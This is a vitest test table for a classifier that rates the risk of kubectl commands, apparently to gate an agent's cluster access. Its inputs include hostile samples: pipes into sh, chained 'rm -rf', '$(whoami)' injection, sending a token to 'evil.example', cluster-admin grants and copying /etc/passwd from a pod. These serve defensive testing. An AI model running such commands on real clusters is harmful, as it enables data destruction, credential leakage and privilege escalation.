import { describe } from 'vitest';
import { testTable } from './classify-table.js';

describe('kubectl: what other agents take for a read', () => {
  testTable(`
kubectl get pods > file => high | get | pod/> pod/file | unknown
kubectl get pods 2>/dev/null => high | get | pod 2>/dev/null | unknown
kubectl get pods | sh => high | get | pod/| pod/sh | unknown
kubectl get pods; rm -rf x => high | get | pods;/rm pods;/x | unknown
kubectl get pods && rm x => high | get | pod/&& pod/rm pod/x | unknown
kubectl get $(whoami) => high | get | $(whoami) | unknown
kubectl config use-context prod => high | config use-context |  | unknown
kubectl config use prod => high | config use |  | unknown
kubectl config set-credentials me --token=x => high | config set-credentials |  | unknown |  | --token=x
kubectl config set-cluster c --server=https://x => high | config set-cluster |  | unknown |  | --server=https://x
kubectl config set-context --current --namespace=shop => high | config set-context |  | unknown | shop
kubectl config set users.me.token x => high | config set |  | unknown
kubectl config unset current-context => high | config unset |  | unknown
kubectl config delete-context prod => high | config delete-context |  | unknown
kubectl config delete-cluster prod => high | config delete-cluster |  | unknown
kubectl config delete-user me => high | config delete-user |  | unknown
kubectl config rename-context a b => high | config rename-context |  | unknown
kubectl apply -f x.yaml --dry-run=none => high | apply | file x.yaml | unknown
kubectl delete pod x --dry-run=none => high | delete | pod/x | one
kubectl delete pod x --dry-run=client --dry-run=none => high | delete | pod/x | one
kubectl delete pod x --dry-run=false => high | delete | pod/x | one
kubectl delete pod x --dry-run => high | delete | pod/x | one
kubectl delete pod x --dry-run client => high | delete | pod/x pod/client | several
kubectl auth reconcile -f rbac.yaml => critical | auth reconcile | file rbac.yaml | unknown
kubectl auth reconcile -f rbac.yaml --dry-run=client => low | auth reconcile | file rbac.yaml | unknown
kubectl diff -f x.yaml => medium | diff | file x.yaml | unknown
kubectl --kubeconfig=/x get pods => high | get | pod | none |  | --kubeconfig=/x
kubectl --kubeconfig /x get pods => high | get | pod | none |  | --kubeconfig=/x
kubectl --server=https://evil.example --token=t get pods => high | get | pod | none |  | --server=https://evil.example --token=t
kubectl -s https://evil.example get pods => high | get | pod | none |  | --server=https://evil.example
kubectl -shttps://evil.example get pods => high | get | pod | none |  | --server=https://evil.example
kubectl get pods --as=system:admin => high | get | pod | none |  | --as=system:admin
kubectl get pods --as root --as-group=system:masters => high | get | pod | none |  | --as=root --as-group=system:masters
kubectl get pods --insecure-skip-tls-verify => high | get | pod | none |  | --insecure-skip-tls-verify
kubectl get pods --kuberc=/tmp/x => high | get | pod | none |  | --kuberc=/tmp/x
kubectl get pods --cluster=other => high | get | pod | none |  | --cluster=other
kubectl get pods --user=admin => high | get | pod | none |  | --user=admin
kubectl proxy => high | proxy |  | none
kubectl proxy --address=0.0.0.0 --accept-hosts=.* => critical | proxy |  | none
kubectl proxy --port=8080 => high | proxy |  | none
kubectl port-forward svc/web 8080:80 -n shop => high | port-forward | service/web | one | shop
kubectl port-forward pod/web 8080:80 --address 0.0.0.0 => critical | port-forward | pod/web | one
kubectl cluster-info dump --output-directory=/tmp/x => high | cluster-info dump |  | none
kubectl cluster-info dump => medium | cluster-info dump |  | none
kubectl cluster-info dump --output-directory=- => medium | cluster-info dump |  | none
kubectl cluster-info => low | cluster-info |  | none
kubectl get secret -o yaml => medium | get | secret | none
kubectl get secrets => low | get | secret | none
kubectl get secrets -o name => low | get | secret | none
kubectl get secret db -o jsonpath={.data} => medium | get | secret/db | one
kubectl get Secrets.v1./db -ojson => medium | get | secret/db | one
kubectl get pods,secrets --template {{.}} => medium | get | pod secret | none
kubectl get -f x.yaml -o yaml => medium | get | file x.yaml | unknown
`);
});

describe('kubectl: options before and after the verb', () => {
  testTable(`
kubectl -n prod get pods => low | get | pod | none | prod
kubectl -nprod get pods => low | get | pod | none | prod
kubectl -n=prod get pods => low | get | pod | none | prod
kubectl --namespace prod get pods => low | get | pod | none | prod
kubectl get pods --namespace=prod => low | get | pod | none | prod
kubectl get pods -n a -n b => low | get | pod | none | b
kubectl get -oyaml pods => low | get | pod | none
kubectl get -Aw pods => low | get | pod | all
kubectl get pods -A => low | get | pod | all
kubectl get pods --all-namespaces=false => low | get | pod | none
kubectl --all-namespaces=true get pods => low | get | pod | all
kubectl -A get pods => high | get | pod | unknown
kubectl get pods --sneaky => high | get | pod | unknown
kubectl get pods --sneaky=value => high | get | pod | unknown
kubectl get pods -Z => high | get | pod | unknown
kubectl get pods --all_namespaces => high | get | pod | unknown
kubectl get pods -n => high | get | pod | unknown
kubectl -- delete pod x => high |  |  | unknown
kubectl --v=9 get pods => medium | get | pod | none
kubectl -v 8 get pods => medium | get | pod | none
kubectl -v get delete pod x => high | delete | pod/x | one
kubectl get pods --profile=cpu => high | get | pod | none
kubectl get pods --cache-dir=/tmp/x => high | get | pod | none
kubectl delete -n prod pod x => high | delete | pod/x | one | prod
kubectl -n prod rollout restart deploy web => high | rollout restart | deployment/web | one | prod
kubectl rollout -n prod restart deploy web => high | rollout restart | deployment/web | one | prod
kubectl rollout restart -n prod deploy/web deploy/api => high | rollout restart | deployment/web deployment/api | several | prod
kubectl exec -it web-0 -- sh => high | exec | pod/web-0 | one
kubectl exec -itn shop web-0 -- rm -rf /data => high | exec | pod/web-0 | one | shop
kubectl exec web-0 -n shop -c app -- kubectl delete ns x => high | exec | pod/web-0 | one | shop
`);
});

describe('kubectl: reads', () => {
  testTable(`
kubectl => low |  |  | none
kubectl version --client => low | version |  | none
kubectl get pods web-0 web-1 => low | get | pod/web-0 pod/web-1 | several
kubectl get pod/web-0 svc/web => low | get | pod/web-0 service/web | several
kubectl get deploy,svc -l app=web => low | get | deployment service | selector
kubectl get pods -l app=web => low | get | pod | selector
kubectl get all => low | get | all | none
kubectl get nodes -o wide => low | get | node | none
kubectl get pods --field-selector=status.phase!=Running => low | get | pod | selector
kubectl get configmap settings -o yaml => low | get | configmap/settings | one
kubectl get clusterrole system:node => low | get | clusterrole/system:node | one
kubectl get sealedsecrets.bitnami.com -o yaml => low | get | sealedsecrets.bitnami.com | none
kubectl get --raw /api/v1/namespaces => medium | get |  | none
kubectl get --raw /api/v1/namespaces/a/pods/b/proxy/shutdown => high | get |  | none
kubectl get -f https://example.com/x.yaml => medium | get | file https://example.com/x.yaml | unknown
kubectl describe node node-1 => low | describe | node/node-1 | one
kubectl explain pod.spec => low | explain |  | none
kubectl top pods -n shop => low | top pods |  | none | shop
kubectl top node => low | top node |  | none
kubectl logs web-0 -c app -p --tail=10 => low | logs | pod/web-0 | one
kubectl logs -f deploy/web => low | logs | deployment/web | one
kubectl logs -l app=web --all-containers => low | logs |  | selector
kubectl events --for=pod/web => low | events |  | none
kubectl api-resources => low | api-resources |  | none
kubectl wait --for=condition=Ready pod/web => low | wait | pod/web | one
kubectl kustomize ./overlay => low | kustomize |  | none
kubectl kustomize https://github.com/a/b => medium | kustomize |  | none
kubectl kustomize . -o out => high | kustomize |  | none
kubectl kustomize . --enable-helm --helm-command=/tmp/x => high | kustomize |  | none |  | --enable-helm --helm-command=/tmp/x
kubectl auth can-i delete pods => low | auth can-i |  | none
kubectl auth whoami => low | auth whoami |  | none
kubectl config view => low | config view |  | none
kubectl config view --raw => medium | config view |  | none
kubectl config get-contexts => low | config get-contexts |  | none
kubectl config current-context => low | config current-context |  | none
kubectl rollout status deploy/web => low | rollout status | deployment/web | one
kubectl rollout history deploy web --revision=2 => low | rollout history | deployment/web | one
kubectl plugin list => low | plugin list |  | none
kubectl krew install x => high | krew |  | unknown
kubectl kubectl => high | kubectl |  | unknown
kubectl alpha events => high | alpha |  | unknown
`);
});

describe('kubectl: changes', () => {
  testTable(`
kubectl delete pod x => high | delete | pod/x | one
kubectl delete pods a b -n shop => high | delete | pod/a pod/b | several | shop
kubectl delete pod/x => high | delete | pod/x | one
kubectl delete pods -l app=web => critical | delete | pod | selector
kubectl delete pods --all -n shop => critical | delete | pod | all | shop
kubectl delete pods --all=false x => high | delete | pod/x | one
kubectl delete pods -A -l app=web => critical | delete | pod | all
kubectl delete ns scratch => critical | delete | namespace/scratch | one
kubectl delete namespaces/scratch => critical | delete | namespace/scratch | one
kubectl delete NS scratch => critical | delete | namespace/scratch | one
kubectl delete pvc data -n shop => critical | delete | persistentvolumeclaim/data | one | shop
kubectl delete pv vol => critical | delete | persistentvolume/vol | one
kubectl delete crd things.example.com => critical | delete | customresourcedefinition/things.example.com | one
kubectl delete node node-1 => critical | delete | node/node-1 | one
kubectl delete deploy web -n shop => critical | delete | deployment/web | one | shop
kubectl delete pod,deploy web => critical | delete | pod/web deployment/web | several
kubectl delete pod x --force --grace-period=0 => critical | delete | pod/x | one
kubectl delete pod x --grace-period 0 => critical | delete | pod/x | one
kubectl delete pod x --grace-period=+0 => critical | delete | pod/x | one
kubectl delete pod x --grace-period=60 => high | delete | pod/x | one
kubectl delete pod x --now => critical | delete | pod/x | one
kubectl delete -f x.yaml => critical | delete | file x.yaml | unknown
kubectl delete -k . => critical | delete | file . | unknown
kubectl delete --raw /api/v1/namespaces/shop => critical | delete |  | all
kubectl delete --raw /api/v1/namespaces/shop --dry-run=server => critical | delete |  | all
kubectl delete pod x -n kube-system => critical | delete | pod/x | one | kube-system
kubectl delete pod x --dry-run=server => low | delete | pod/x | one
kubectl delete pods --all --dry-run=client => low | delete | pod | all
kubectl apply -f - -n shop => high | apply | file - | unknown | shop
kubectl apply -f https://example.com/x.yaml => high | apply | file https://example.com/x.yaml | unknown
kubectl apply -k github.com/a/b => high | apply | file github.com/a/b | unknown
kubectl apply -f x.yaml --prune -l app=web => critical | apply | file x.yaml | unknown
kubectl apply -f x.yaml --force => critical | apply | file x.yaml | unknown
kubectl apply -f x.yaml --server-side --force-conflicts => high | apply | file x.yaml | unknown
kubectl apply -f x.yaml --dry-run => low | apply | file x.yaml | unknown
kubectl apply -f x.yaml --dry-run=server => low | apply | file x.yaml | unknown
kubectl apply -f https://example.com/x.yaml --dry-run=client => medium | apply | file https://example.com/x.yaml | unknown
kubectl apply view-last-applied deploy/web => low | apply view-last-applied | deployment/web | one
kubectl create -f x.yaml => high | create | file x.yaml | unknown
kubectl create -f x.yaml --dry-run => low | create | file x.yaml | unknown
kubectl create namespace scratch => high | create namespace | namespace/scratch | one
kubectl create ns scratch => high | create namespace | namespace/scratch | one
kubectl create deployment web --image=nginx => high | create deployment | deployment/web | one
kubectl create secret generic db --from-literal=a=b => high | create secret | secret/db | one
kubectl create token builder => high | create token | token/builder | one
kubectl create clusterrolebinding root --clusterrole=cluster-admin --user=eve => critical | create clusterrolebinding | clusterrolebinding/root | one
kubectl create rolebinding r --role=x --serviceaccount=a:b => critical | create rolebinding | rolebinding/r | one
kubectl replace -f x.yaml => high | replace | file x.yaml | unknown
kubectl replace --force -f x.yaml => critical | replace | file x.yaml | unknown
kubectl patch deploy web -p {"spec":{}} => high | patch | deployment/web | one
kubectl patch pvc data -p {"metadata":{"finalizers":null}} => critical | patch | persistentvolumeclaim/data | one
kubectl patch node node-1 -p {} => critical | patch | node/node-1 | one
kubectl edit deploy web => high | edit | deployment/web | one
kubectl label pod web-0 team=shop canary- => high | label | pod/web-0 | one
kubectl label node node-1 disk=ssd => critical | label | node/node-1 | one
kubectl label pods --all team=shop => critical | label | pod | all
kubectl annotate deploy/web note=x --overwrite => high | annotate | deployment/web | one
kubectl taint nodes node-1 a=b:NoSchedule => high | taint | node/node-1 | one
kubectl taint nodes node-1 a=b:NoExecute => critical | taint | node/node-1 | one
kubectl scale deploy web --replicas=3 => high | scale | deployment/web | one
kubectl scale deploy web --replicas 0 => critical | scale | deployment/web | one
kubectl scale deploy web --replicas=500 => critical | scale | deployment/web | one
kubectl scale deploy web => critical | scale | deployment/web | one
kubectl scale --replicas=2 deploy --all => critical | scale | deployment | all
kubectl autoscale deploy web --max=5 => high | autoscale | deployment/web | one
kubectl expose deploy web --port=80 => high | expose | deployment/web | one
kubectl run x --image=nginx => high | run | pod/x | one
kubectl run x --image=nginx --privileged => critical | run | pod/x | one
kubectl run x --image=nginx --overrides={} => critical | run | pod/x | one
kubectl run x --image=nginx --dry-run=client -o yaml => low | run | pod/x | one
kubectl attach web-0 => high | attach | pod/web-0 | one
kubectl cp web-0:/etc/passwd /tmp/x => high | cp |  | none
kubectl debug web-0 --image=busybox => high | debug | pod/web-0 | one
kubectl debug node/node-1 --image=busybox => critical | debug | node/node-1 | one
kubectl debug web-0 --profile=sysadmin => critical | debug | pod/web-0 | one
kubectl drain node-1 => critical | drain | node/node-1 | one
kubectl drain node-1 --ignore-daemonsets --delete-emptydir-data => critical | drain | node/node-1 | one
kubectl drain node-1 --dry-run=server => low | drain | node/node-1 | one
kubectl cordon node-1 => high | cordon | node/node-1 | one
kubectl cordon -l disk=ssd => critical | cordon |  | selector
kubectl uncordon node-1 => high | uncordon | node/node-1 | one
kubectl certificate approve csr-1 => critical | certificate approve |  | none
kubectl certificate deny csr-1 => high | certificate deny |  | none
kubectl rollout restart deployment => critical | rollout restart | deployment | all
kubectl rollout restart deployment -l app=web => high | rollout restart | deployment | selector
kubectl rollout undo deploy/web --to-revision=3 => high | rollout undo | deployment/web | one
kubectl rollout undo deploy/web --dry-run=server => low | rollout undo | deployment/web | one
kubectl rollout restart deploy/web --dry-run=client => high | rollout restart | deployment/web | unknown
kubectl rollout pause deploy/web => high | rollout pause | deployment/web | one
kubectl set image deploy/web app=nginx:2 -n shop => high | set image | deployment/web | one | shop
kubectl set env deploy/web A=b => high | set env | deployment/web | one
kubectl set env deploy/web --list => high | set env | deployment/web | one
kubectl set subject clusterrolebinding admin --user=eve => critical | set subject | clusterrolebinding/admin | one
kubectl set frobnicate x => high | set frobnicate |  | unknown
/usr/local/bin/kubectl delete ns x => critical | delete | namespace/x | one
`);
});
